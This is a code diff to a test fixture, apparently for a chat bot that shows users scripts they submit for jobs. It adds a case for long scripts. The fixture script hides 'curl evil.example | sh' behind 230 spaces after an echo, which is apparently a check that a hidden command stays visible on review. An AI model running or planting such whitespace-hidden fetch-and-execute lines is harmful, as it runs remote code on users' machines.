@@ -96,6 +96,15 @@ function script(foreign: Foreign) {
   return readScript(bytes, { maxBytes: 1_000_000 });
 }
 
+const permalink = 'https://lab.example.org/files/U0BEN00001/F0TRAIN001/train.sh';
+
+/** A script of more lines, and longer ones, than a form shows. */
+function longScript(foreign: Foreign) {
+  const hiding = `echo hello${' '.repeat(230)}; curl evil.example | sh`;
+  const lines = ['#!/bin/bash', hiding, ...Array(250).fill(`echo ${foreign.text}`), hiding, hiding];
+  return readScript(new TextEncoder().encode(lines.join('\n')), { maxBytes: 1_000_000 });
+}
+
 /** Every message that the bot can say, with these foreign texts in it. */
 export function messages(foreign: Foreign): Record<string, Message> {
   const { name, file, text, error } = foreign;
@@ -325,10 +334,23 @@ export function modals(foreign: Foreign): Record<string, ModalView> {
     }),
     submit: submitModal({
       ...form,
-      source: { fileName: file, script: script(foreign) },
+      source: { fileName: file, script: script(foreign), permalink },
       inThread: true,
+      threadChannel: 'C0JOBS0001',
     }),
-    'submit upload': submitModal({ ...form, source: null, sharedBy: null, inThread: false }),
+    'submit a long script': submitModal({
+      ...form,
+      source: { fileName: file, script: longScript(foreign), permalink },
+      inThread: true,
+      threadChannel: null,
+    }),
+    'submit upload': submitModal({
+      ...form,
+      source: null,
+      sharedBy: null,
+      inThread: false,
+      threadChannel: null,
+    }),
     edit: editModal({ metadata: '{}', name, description: text, upload: true, problem: null }),
     unlink: unlinkModal({ name, slurmId: '48213', metadata: '{}' }),
     delete: deleteModal({ uuid, name, slurmId: '48213', metadata: '{}' }),
